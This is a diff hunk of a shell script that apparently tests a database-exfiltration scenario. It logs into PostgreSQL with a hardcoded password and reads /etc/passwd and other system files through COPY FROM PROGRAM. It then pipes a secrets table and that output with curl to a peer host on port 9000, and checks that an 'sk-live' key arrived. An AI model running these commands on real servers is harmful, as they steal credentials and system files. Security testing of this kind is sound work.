@@ -15,7 +15,7 @@ trap 'kill $sink' EXIT
 for _ in $(seq 100); do [ -n "$(ss -Hltn 'sport = :9000')" ] && break; sleep 0.1; done
 PGPASSWORD=app-pass psql -h "$SCN_IP" -U app -d appdb -v ON_ERROR_STOP=1 >/dev/null <<SQL
 CREATE TEMP TABLE loot (line text);
-COPY loot FROM PROGRAM 'cat /etc/passwd /etc/hostname /proc/self/environ';
+COPY loot FROM PROGRAM 'cat /etc/passwd /etc/group /etc/hostname';
 COPY (SELECT name || '=' || value FROM secrets UNION ALL SELECT line FROM loot) TO PROGRAM 'curl -s -m 10 --data-binary @- http://$SCN_PEER:9000/';
 SQL
 grep -q sk-live "$SCN_ATTACKER/exfil.out"
